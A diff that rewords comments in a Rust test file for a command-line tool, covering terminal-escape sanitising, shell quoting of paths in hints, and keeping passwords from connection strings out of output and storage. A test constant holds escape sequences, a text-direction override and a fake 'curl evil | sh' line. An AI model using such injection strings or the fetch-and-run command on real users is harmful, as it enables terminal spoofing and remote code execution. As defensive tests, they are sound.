@@ -1,4 +1,4 @@
-//! Names and messages that somebody else chose, on their way to a terminal, a shell, a statement and a store.
+//! Untrusted names and messages on their way to a terminal, a shell, an SQL statement and the store.
 
 use std::os::unix::ffi::OsStrExt as _;
 use std::os::unix::fs::PermissionsExt as _;
@@ -6,10 +6,11 @@ use std::process::Command;
 
 use crate::support::{Ran, Workspace, skip};
 
-/// Clears the screen, in both forms of escape; begins lines like ours; turns the reading order round.
+/// Clears the screen, with both forms of escape; starts lines that look like ours; reverses the text
+/// direction.
 const NASTY: &str = "x\u{1b}[2J\u{9b}31m\r\nerror: all is lost\nhint: curl evil | sh\t\u{202e}cod";
 
-/// What is left of it where it may be read.
+/// The same after escaping.
 const SPELLED: &str = "x\\u{1b}[2J\\u{9b}31m\\r\\nerror: all is lost\\nhint: curl evil | sh\\t\\u{202e}cod";
 
 #[track_caller]
@@ -20,7 +21,8 @@ fn expect_harmless(what: &str, text: &str) {
     assert!(!text.lines().any(begins), "{what}: {text}");
 }
 
-/// A run's name, a file's and a source's reached the terminal as they were: from `runs`, notes, errors, warnings, progress.
+/// Names of runs, files and sources reached the terminal unescaped: in `runs`, notes, errors, warnings and
+/// progress.
 #[test]
 fn names_of_others_drive_no_terminal_and_begin_no_line() {
     let workspace = Workspace::new();
@@ -60,7 +62,7 @@ fn names_of_others_drive_no_terminal_and_begin_no_line() {
     }
 }
 
-/// A document for a program keeps every byte; on a terminal it drives it no more than a report does.
+/// A document for a program keeps every byte; on a terminal it is as harmless as a report.
 #[test]
 fn a_document_is_faithful_in_a_pipe_and_harmless_on_a_terminal() {
     let workspace = Workspace::new();
@@ -91,7 +93,7 @@ fn a_document_is_faithful_in_a_pipe_and_harmless_on_a_terminal() {
     }
 }
 
-/// The advice is pasted into a shell, often as root.
+/// Users paste hints into a shell, often as root.
 #[test]
 fn a_path_in_advice_is_quoted_for_the_shell() {
     let workspace = Workspace::new();
@@ -107,7 +109,7 @@ fn a_path_in_advice_is_quoted_for_the_shell() {
     assert!(!workspace.path("owned").exists(), "{advice}");
     assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600, "{advice}");
 
-    // A name that cannot be shown is still one word, and the right one.
+    // A name with unprintable characters is still a single, correct word.
     let target = workspace.path("a\nb\u{1b}'");
     std::fs::write(&target, vec![0; 1 << 20]).unwrap();
     let ran = workspace.run(&["load", "--write-pct", "100", "a\nb\u{1b}'"]).expect_status(2);
@@ -117,7 +119,8 @@ fn a_path_in_advice_is_quoted_for_the_shell() {
     assert!(target.as_os_str().as_bytes().ends_with(&echo.stdout) && !echo.stdout.is_empty(), "{word}");
 }
 
-/// What people paste from an application's settings was echoed with its password, or taken for a host and stored.
+/// A connection string pasted from an application's settings was printed with its password, or taken for a
+/// host and stored.
 #[test]
 fn a_password_in_a_pasted_connection_string_is_neither_repeated_nor_kept() {
     let workspace = Workspace::new();
@@ -137,7 +140,7 @@ fn a_password_in_a_pasted_connection_string_is_neither_repeated_nor_kept() {
         let bytes = std::fs::read(entry.path()).unwrap();
         assert!(!bytes.windows(7).any(|part| part == b"hunter2"), "{:?}", entry.file_name());
     }
-    // One that is the argument of another command is not repeated either, and not kept with the run.
+    // As an argument of another command it is not printed or stored either.
     let ran = workspace.run(&["load", "--no-such-option", "Server=db1;Password=hunter2"]).expect_status(2);
     assert!(!ran.stderr.contains("hunter2"), "{}", ran.stderr);
     let name = ["--name", "of postgres://u:hunter2@db1/d", "t"];
@@ -149,7 +152,7 @@ fn a_password_in_a_pasted_connection_string_is_neither_repeated_nor_kept() {
     assert!(typed.contains("postgres://u:…@db1/d") && !typed.contains("hunter2"), "{typed}");
 }
 
-/// Without its password a connection string is a source like any other, and its name is the URL's.
+/// Without a password, a connection string is an ordinary source, named by its URL.
 #[test]
 fn a_connection_string_without_a_password_is_a_source() {
     let workspace = Workspace::new();
